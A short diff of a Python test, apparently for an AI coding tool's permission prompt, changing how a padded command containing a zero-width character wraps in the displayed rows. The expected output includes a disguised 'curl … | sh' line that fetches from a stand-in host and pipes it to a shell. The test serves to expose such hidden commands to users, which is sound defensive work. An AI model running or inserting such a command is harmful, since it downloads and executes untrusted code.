@@ -117,8 +117,8 @@ def test_a_command_is_shown_fully_with_its_padding_and_hidden_characters_counted
 
     assert rows == [
         "? May bash run this?",
-        "  ls … 3000 spaces … ; curl e\\u200b.exam",
-        "  ↳ ple | sh",
+        "  ls … 3000 spaces … ; curl ",
+        "  ↳ e\\u200b.example | sh",
         "  touch x",
         "  1 hidden character is written out like",
         "  \\u200b.",
